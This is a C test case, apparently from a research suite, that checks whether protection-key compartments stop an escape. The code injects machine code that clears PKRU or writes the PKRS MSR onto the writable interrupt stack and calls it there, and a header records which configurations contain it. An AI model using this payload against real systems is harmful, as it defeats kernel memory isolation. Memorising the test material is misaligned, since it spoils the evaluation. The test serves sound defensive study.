/*
{
  "title": "Code that takes all rights, put on the stack that the processor has for interrupts, which everybody can write, and called there",
  "precondition": "CR4.PKE = 1, or CR4.PKS = 1",
  "reference": "Intel 64 and IA-32 Architectures Software Developer's Manual, volume 3A, sections 4.6.1 and 6.14.5; Guo et al., BULKHEAD: Secure, Scalable, and Efficient Kernel Compartmentalization with PKS, NDSS 2025",
  "elsewhere": {"qemu-tcg": "QEMU's processor has keys of supervisor pages, for which the attack has a branch of its own"},
  "symbols": ["count"],
  "cells": {
    "none": {"outcome": "escaped"},
    "uio-mpk": {"outcome": "contained"},
    "mpk-hardened": {"outcome": "contained"},
    "ring3": {"outcome": "contained"},
    "pks-hardened": {"outcome": "contained"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"none": "escaped"}
}
*/
#include "attack.h"
#include "processor.h"

static const uint8_t write_pkru[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3};
static const uint8_t write_pkrs[] = {0x31, 0xc0, 0xb9, 0xe1, 0x06, 0x00, 0x00, 0x31, 0xd2, 0x0f, 0x30, 0xc3};

static void execute(const uint8_t *code, uint64_t bytes) {
  // The bottom of its uppermost page.
  volatile uint8_t *place = (volatile uint8_t *)(stack_top_of(0x20) - PAGE);
  for (uint64_t at = 0; at < bytes; at++) place[at] = code[at];
  __asm__ volatile("call *%0" : : "r"(place) : "rax", "rcx", "rdx", "memory");
}

int main(void) {
  BYPASS_OF_KEYS(
      if (attack_has_supervisor_keys()) execute(write_pkrs, sizeof write_pkrs); else execute(write_pkru, sizeof write_pkru));
  GOAL_COUNT();
  return 0;
}
